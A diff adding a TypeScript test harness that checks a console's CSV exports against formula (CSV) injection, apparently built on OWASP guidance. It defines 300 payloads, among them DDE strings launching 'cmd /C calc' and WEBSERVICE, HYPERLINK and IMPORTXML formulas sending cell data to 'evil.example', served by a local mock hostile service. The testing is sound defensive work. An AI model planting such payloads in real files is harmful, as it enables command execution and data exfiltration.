@@ -1,0 +1,149 @@
+/** Texts that spreadsheets would run, put wherever a text can be put, and every CSV file that the console writes. */
+import { readFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
+import { stringify } from 'csv-stringify/sync'
+import type { BatchFile } from '#contract/batches.ts'
+import type { RecordDetail } from '#contract/records.ts'
+import { createExports } from '#core/exports/exports.ts'
+import { clock, connectionNamed, intentOf, lost, answer } from '../../tests/service/history-fixtures.ts'
+import { groundConnection, openGround, type Ground } from '../batch-ground.ts'
+import { inProofFolder } from './section.ts'
+
+const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\r\n@', ' =', '  +', '\u00a0-', '\u3000=', '\uff1d', '\uff0b', '\uff0d', '\uff20', '=-', '-+', '@@', '\t', '\r', '\ufeff=', '\u200b=', '"=', '\'=']
+const tails = [
+  '1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example","x")', 'SUM(A1:A9)', '"quoted", and more', 'IMPORTXML(CONCAT("http://x/",A1),"//a")',
+  'a\r\n=b', 'DDE("cmd";"/C calc";"x")', '2+3;=4', 'WEBSERVICE("http://evil.example/"&A1)', '\u202e)1(MUS', 'É Ω 漢 🙂'
+]
+
+/** 300 of them. */
+export const payloads: readonly string[] = signs.flatMap((sign) => tails.map((tail) => sign + tail))
+
+// Written apart from the writers' own rule. Source: OWASP, "CSV Injection"; some spreadsheets trim white space before a sign.
+const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']
+
+/** Whether a spreadsheet would take a cell for a formula, or for the beginning of another cell. */
+export const wouldRun = (cell: string): boolean => /^[\t\r\n]/.test(cell) || starts.some((sign) => cell.replaceAll('\0', ' ').trimStart().startsWith(sign))
+
+export const cellsOf = (path: string): string[] => (parse(readFileSync(path), { bom: true, relax_column_count: true }) as string[][]).flat()
+export const linesOf = <T = Record<string, unknown>>(path: string): T[] => readFileSync(path, 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as T)
+
+export interface Written {
+  readonly file: string
+  readonly cells: number
+  /** Cells that hold one of the payloads; the file really was attacked. */
+  readonly attacked: number
+  readonly faults: readonly string[]
+}
+
+/** A CSV file: how many of its cells a spreadsheet would run, and whether those attacked are otherwise as they were. */
+function judged(file: string, path: string): Written {
+  const cells = cellsOf(path)
+  const known = new Set(payloads)
+  const attacked = cells.filter((cell) => known.has(cell) || (cell.startsWith(`'`) && known.has(cell.slice(1)))).length
+  return { file, cells: cells.length, attacked, faults: cells.filter(wouldRun).map((cell) => `${file}: ${JSON.stringify(cell)} would run`) }
+}
+
+/** A lossless file: the texts in it are exactly those that were put in, in their order. */
+function lossless(file: string, found: readonly (string | undefined)[], wanted: readonly string[]): Written {
+  const faults = wanted.flatMap((text, n) => (found[n] === text ? [] : [`${file}: ${JSON.stringify(found[n])} instead of ${JSON.stringify(text)}`]))
+  if (found.length !== wanted.length) faults.push(`${file}: ${found.length} texts instead of ${wanted.length}`)
+  return { file, cells: found.length, attacked: wanted.length, faults }
+}
+
+const must = async <T>(result: Promise<{ ok: true; value: T } | { ok: false; failure: { code: string; what: string } }>): Promise<T> => {
+  const settled = await result
+  if (!settled.ok) throw new Error(`${settled.failure.code}: ${settled.failure.what}`)
+  return settled.value
+}
+
+/** Answers with each row's own payload; every third is refused, every fifth left without an answer. */
+async function hostileService(): Promise<{ readonly baseUrl: string; close(): void }> {
+  const server = createServer((request, response) => {
+    let body = ''
+    request.on('data', (part) => (body += String(part)))
+    request.on('end', () => {
+      const n = Number((JSON.parse(body) as { applicant_id: string }).applicant_id.slice(4))
+      if (n % 5 === 0) return void request.socket.destroy()
+      response.writeHead(n % 3 === 0 ? 400 : 200, { 'content-type': 'application/json' })
+      response.end(JSON.stringify({ message: payloads[n] }))
+    })
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return {
+    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    close: () => {
+      server.closeAllConnections()
+      server.close()
+    }
+  }
+}
+
+/** A batch whose headings and cells are attacked, run against a service whose answers are; every file of it. */
+async function batchFiles(ground: Ground, folder: string): Promise<Written[]> {
+  const rows = payloads.map((payload, n) => [n % 7 === 0 ? '' : `ROW-${n}`, payload])
+  const text = stringify([['applicant_id', '=cmd|calc!A0'], ...rows])
+  const checked = await must(ground.batches.checkText('rows.csv', text, { operation: 'get-applicant-details' }))
+  const { id } = await must(ground.batches.make({ checkId: checked.checkId, connectionId: groundConnection.id, name: '=1+1', atOnce: 8, pace: 0, skipDuplicates: false, skipLately: false }))
+  await must(ground.batches.start(id))
+  await ground.batches.ended(id)
+  const written: Written[] = []
+  for (const file of ['results', 'failed', 'unknown', 'faulty'] as const satisfies readonly BatchFile[]) {
+    const path = join(folder, `${file}.csv`)
+    await must(ground.batches.saveTo(id, file, path))
+    written.push(judged(`batch, ${file} (CSV)`, path))
+  }
+  const path = join(folder, 'lossless.jsonl')
+  await must(ground.batches.saveTo(id, 'lossless', path))
+  const lines = linesOf<{ readonly cells: readonly string[] }>(path).slice(1)
+  written.push(lossless('batch, lossless (JSON lines)', lines.map(({ cells }) => cells[1]), payloads))
+  return written
+}
+
+/** The history and the applicants, with the payloads in every text that stands in a column. */
+async function exported({ store }: Ground, folder: string): Promise<Written[]> {
+  let path = ''
+  const exports = createExports({
+    clock, consoleVersion: '=1+1', store: () => ({ ok: true, value: store }), chooseSavePath: async () => path,
+    trail: { note: async () => undefined }, progress: () => undefined
+  })
+  const before = await must(store.counts({}))
+  for (const [n, payload] of payloads.entries()) {
+    const connection = { ...connectionNamed(payloads[n % 20] ?? '', '00000000-0000-4000-8000-0000000000f1'), origin: payload }
+    const begun = await must(store.begin({ ...intentOf({ applicant: payload, operation: 'validate-applicant-id-document', url: payload, connection }), operator: payload }))
+    await must(store.finish(begun.id, n % 4 === 0 ? lost : answer(payload)))
+    if (n % 4 === 0) await must(store.settle(begun.id, 'not-processed', payload, clock.now()))
+    await must(store.applicants.tag(payload, [payload.slice(0, 30)], { at: clock.now(), operator: payload }))
+  }
+  const exportId = '00000000-0000-4000-8000-0000000000ee'
+  const written: Written[] = []
+  for (const what of ['history', 'applicants'] as const) {
+    path = join(folder, `${what}.csv`)
+    await must(what === 'history' ? exports.history({ exportId, filter: {}, format: 'csv' }) : exports.applicants({ exportId, format: 'csv' }))
+    written.push(judged(`${what} (CSV)`, path))
+    path = join(folder, `${what}.jsonl`)
+    await must(what === 'history' ? exports.history({ exportId, filter: {}, format: 'jsonl' }) : exports.applicants({ exportId, format: 'jsonl' }))
+  }
+  const records = linesOf<RecordDetail>(join(folder, 'history.jsonl')).slice(1 + before.total, -1)
+  const texts = records.flatMap(({ input, fullMessage, settled, operator, connection }) => [input.applicant_id, input['document_url'], fullMessage ?? settled?.note, operator, connection.origin])
+  written.push(lossless('history (JSON lines)', texts, payloads.flatMap((payload) => [payload, payload, payload, payload, payload])))
+  const ids = linesOf<{ readonly id: string }>(join(folder, 'applicants.jsonl')).slice(1, -1).map(({ id }) => id)
+  written.push(lossless('applicants (JSON lines)', ids.filter((id) => payloads.includes(id)).sort(), [...payloads].sort()))
+  return written
+}
+
+/** Every CSV writer of the console with every payload, and the lossless file beside each. */
+export function writeEverywhere(): Promise<Written[]> {
+  return inProofFolder(async (folder) => {
+    const service = await hostileService()
+    const ground = await openGround({ folder: join(folder, 'history'), baseUrl: service.baseUrl, masterKey: '0123456789abcdef'.repeat(4) })
+    try {
+      return [...(await batchFiles(ground, folder)), ...(await exported(ground, folder))]
+    } finally {
+      await ground.close()
+      service.close()
+    }
+  })
+}
